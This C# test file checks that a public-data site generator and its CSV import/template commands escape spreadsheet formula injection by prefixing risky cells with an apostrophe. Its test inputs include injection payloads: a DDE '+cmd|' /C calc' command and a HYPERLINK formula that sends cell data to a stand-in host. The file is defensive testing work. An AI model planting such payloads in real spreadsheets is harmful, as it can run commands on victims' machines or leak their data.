using System.Text;
using Pei.Site.Text;

namespace Pei.Site.Tests.Hardening;

/// <summary>
/// Formula injection in CSV (OWASP): no cell of a CSV the site or a command writes starts with '=', '+', '-', '@', a tab
/// or a carriage return unless it is a number; such a text is written after a single quote, and importar reads its own
/// escaping back to the text as written.
/// </summary>
public sealed class CsvInjectionTests : IDisposable
{
    private readonly TempFolder temp = new();

    public void Dispose() => temp.Dispose();

    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    /// <summary>Every cell of every row: none would run as a formula in a spreadsheet program.</summary>
    private static void AssertNoLiveFormula(IEnumerable<string[]> rows)
    {
        foreach (var cell in rows.SelectMany(r => r))
        {
            if (cell.Length > 0 && FormulaStarts.Contains(cell[0]))
            {
                Assert.True(decimal.TryParse(cell.Replace(',', '.'), System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _),
                    $"a cell starts a formula: {cell}");
            }
        }
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example\",\"ver\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)")]
    [InlineData("\t=1")]
    [InlineData("\r\n=1")]
    [InlineData("- uno\n- dos")]
    public void A_text_that_starts_a_formula_is_written_after_a_quote_and_read_back_as_written(string text)
    {
        var written = Write(text);

        Assert.Equal("'" + text, Csv.Parse(written)[0][0]);
        Assert.Equal(text, CsvText.Unescape(Csv.Parse(written)[0][0]));
    }

    [Theory]
    [InlineData("-5")]
    [InlineData("+3.5")]
    [InlineData("-2,5")]
    [InlineData("-1e5")]
    [InlineData("Texto = otro")]
    [InlineData("'hola")]
    [InlineData("")]
    public void Numbers_and_other_texts_are_written_as_they_are(string text)
    {
        Assert.Equal(text, Csv.Parse(Write(text))[0][0]);
        Assert.Equal(text, CsvText.Unescape(text));
    }

    [Theory]
    [InlineData("'=1", "''=1")]
    [InlineData("''-x", "'''-x")]
    [InlineData("'@", "''@")]
    public void A_text_that_already_starts_with_quotes_before_a_formula_gets_one_more(string text, string cell)
    {
        Assert.Equal(cell, Csv.Parse(Write(text))[0][0]);
        Assert.Equal(text, CsvText.Unescape(cell));
    }

    [Fact]
    public void Escaping_is_undone_exactly_for_any_text()
    {
        var random = new Random(21);
        const string alphabet = "=+-@\t\r'a1,. ";
        for (var i = 0; i < 20_000; i++)
        {
            var text = new string(Enumerable.Range(0, random.Next(0, 6)).Select(_ => alphabet[random.Next(alphabet.Length)]).ToArray());
            Assert.Equal(text, CsvText.Unescape(CsvText.Escape(text)));
            var escaped = CsvText.Escape(text);
            Assert.False(escaped.Length > 0 && FormulaStarts.Contains(escaped[0]) && CsvText.NeedsGuard(escaped), text);
        }
    }

    private static string Write(string text)
    {
        using var writer = new StringWriter();
        var csv = new CsvText(writer);
        csv.Row([text, "x"]);
        return writer.ToString();
    }

    [Fact]
    public void The_open_data_csvs_write_formula_like_names_as_text()
    {
        var content = temp.Copy(Repository.PublishedJune2025, "content");
        var objective = Path.Combine(content, "objetivos", "03-comunicacion-publica");
        var indicator = Path.Combine(objective, "indicadores", "4199.yaml");
        File.WriteAllText(Path.Combine(objective, "objetivo.yaml"), File.ReadAllText(Path.Combine(objective, "objetivo.yaml"))
            .Replace("titulo: Comunicación pública", "titulo: \"@SUM(1+1)\"", StringComparison.Ordinal));
        var yaml = File.ReadAllText(indicator)
            .Replace("codigo: \"Meta sectorial 345-2275\"", "codigo: \"\\tMeta\"", StringComparison.Ordinal)
            .Replace("codigo: \"4199\"", "codigo: \"-4199\"", StringComparison.Ordinal)
            .Replace("          Al corte del 30", "          -2+3 Al corte del 30", StringComparison.Ordinal);
        yaml = System.Text.RegularExpressions.Regex.Replace(yaml, "(?m)^nombre: .*$", "nombre: '=HYPERLINK(\"http://x.example/?d=\"&A1,\"ver\")'");
        yaml = System.Text.RegularExpressions.Regex.Replace(yaml, "(?m)^  descripcion: .*$", "  descripcion: \"+cmd|' /C calc'!A0\"");
        File.WriteAllText(indicator, yaml);
        var site = temp["_site"];

        var outcome = Cli.Run("build", "--content", content, "--out", site, "--theme", Repository.Theme);

        Assert.True(outcome.ExitCode == 0, outcome.Stderr);
        foreach (var file in new[] { "datos/seguimiento.csv", "datos/cortes/2025-06-30.csv" })
        {
            var rows = Csv.Parse(File.ReadAllText(Path.Combine(site, file)));
            AssertNoLiveFormula(rows);
            var header = rows[0];
            var row = rows.Single(r => r[Array.IndexOf(header, "indicador_id")] == "4199");
            Assert.Equal("'@SUM(1+1)", row[Array.IndexOf(header, "objetivo_titulo")]);
            Assert.StartsWith("'=HYPERLINK(", row[Array.IndexOf(header, "indicador_nombre")], StringComparison.Ordinal);
            Assert.Equal("'\tMeta", row[Array.IndexOf(header, "meta_codigo")]);
            Assert.StartsWith("'+cmd|", row[Array.IndexOf(header, "meta_descripcion")], StringComparison.Ordinal);
            Assert.StartsWith("'-2+3 Al corte", row[Array.IndexOf(header, "observaciones")], StringComparison.Ordinal);
            // A number is not a formula: a code that reads as one is written as it is.
            Assert.Equal("-4199", row[Array.IndexOf(header, "indicador_codigo")]);
        }
        Assert.Contains("precedido de un apóstrofo", File.ReadAllText(Path.Combine(site, "datos", "index.html")), StringComparison.Ordinal);
        Assert.Contains("precedido de un apóstrofo", File.ReadAllText(Path.Combine(site, "datos", "datapackage.json")), StringComparison.Ordinal);
    }

    [Fact]
    public void Plantilla_writes_formula_like_texts_after_a_quote_and_importar_reads_them_back_unchanged()
    {
        var content = temp.Copy(Repository.BaseCase, "content");
        Assert.Equal(0, Cli.Run("nuevo-corte", "2025-09-30", "--content", content).ExitCode);
        var indicator = Directory.GetFiles(content, "101.yaml", SearchOption.AllDirectories).Single();
        File.WriteAllText(indicator, System.Text.RegularExpressions.Regex.Replace(File.ReadAllText(indicator), "(?m)^nombre: .*$", "nombre: \"=1+1\""));
        string[] observations = ["=HYPERLINK(\"http://x.example\")", "@nota", "+1 punto", "- uno\n- dos", "'=ya citado", "-3"];
        var filled = temp["llena.csv"];
        var ids = new[] { "101", "102", "201", "202", "203" };
        File.WriteAllText(filled,
            "corte;objetivo;meta;id (no editar);indicador;unidad;meta de la vigencia;programado;ejecutado;observaciones\n" +
            string.Concat(ids.Select((id, i) => $"2025-09-30;;;{id};;;;1;1;\"{CsvText.Escape(observations[i]).Replace("\"", "\"\"")}\"\n")),
            new UTF8Encoding(false));
        Assert.Equal(0, Cli.Run("importar", filled, "--content", content).ExitCode);
        var template = temp["plantilla.csv"];

        Assert.Equal(0, Cli.Run("plantilla", "2025-09-30", "--out", template, "--content", content).ExitCode);

        var sheet = File.ReadAllLines(template).ToList();
        Assert.Contains(sheet, l => l.Contains(";'=1+1;", StringComparison.Ordinal));
        Assert.Contains(sheet, l => l.Contains(";'@nota", StringComparison.Ordinal));
        Assert.Contains(sheet, l => l.Contains(";'+1 punto", StringComparison.Ordinal));
        Assert.Contains(sheet, l => l.Contains(";\"'=HYPERLINK(\"\"http://x.example\"\")\"", StringComparison.Ordinal));
        Assert.Contains(sheet, l => l.Contains(";\"'- uno", StringComparison.Ordinal));
        Assert.Contains(sheet, l => l.Contains(";''=ya citado", StringComparison.Ordinal));
        Assert.DoesNotContain(sheet, l => l.Contains(";=", StringComparison.Ordinal) || l.Contains(";@", StringComparison.Ordinal) || l.Contains(";+", StringComparison.Ordinal));

        var again = Cli.Run("importar", template, "--content", content);

        Assert.Equal(0, again.ExitCode);
        Assert.Contains("0 archivos modificados", again.Stdout, StringComparison.Ordinal);
    }
}
